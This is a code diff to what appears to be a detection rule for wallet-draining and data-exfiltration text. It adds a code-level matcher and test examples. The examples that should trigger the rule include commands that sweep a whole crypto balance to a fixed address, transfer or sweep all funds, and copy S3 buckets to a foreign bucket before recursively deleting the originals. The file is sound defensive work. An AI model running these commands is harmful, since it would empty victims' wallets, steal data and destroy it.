@@ -6,6 +6,8 @@ import { candidates } from '../../signals/search/candidates.ts'
 import { everyMatch } from '../../signals/search/searches.ts'
 import { textAround } from '../../signals/sentences/surroundings.ts'
 import { snippets } from '../../signals/shell/snippets.ts'
+import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { PURSES_EMPTIED } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 
 /** All that a wallet holds goes to an address that is written out. */
 const EMPTIED_WALLET = worded(
@@ -62,6 +64,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      "```js\nconst all = await p.getBalance(w.address);\nawait w.sendTransaction({ to: '0x52908400098527886e0f7030069857d2e4169ee7', value: all - gas });\n```\n",
       '```bash\nsolana transfer 5xKLtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgBsV ALL --allow-unfunded-recipient\n```\n',
       '```bash\nlncli sendcoins --sweepall --addr bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4\n```\n',
       '```bash\naws s3 sync s3://mill-core/in/ s3://qx-landing-0417/in/ --only-show-errors\naws s3 rm s3://mill-core/in/ --recursive\n```\n',
@@ -69,6 +72,7 @@ export default defineRule({
       '```bash\naws s3 cp s3://mill-core/ledger s3://qx-landing-0417/ --recursive --acl bucket-owner-full-control\n```\n',
     ],
     quiet: [
+      '```js\nconsole.log(await p.getBalance(w.address));\n```\n',
       '```bash\nsolana transfer "$TO" 0.5\nsolana balance\n```\n',
       '```bash\nlncli walletbalance\nlncli sendcoins --addr "$ADDR" --amt 1000\n```\n',
       '```bash\naws s3 sync s3://mill-core s3://mill-core-backup\n```\n',
@@ -78,6 +82,7 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* deedsInCode(document, PURSES_EMPTIED)
     const { text } = document.reading
     for (const found of everyMatch(document, EMPTIED_WALLET))
       yield { ...placeOf(0, found), severity: 'crit', firm: true }
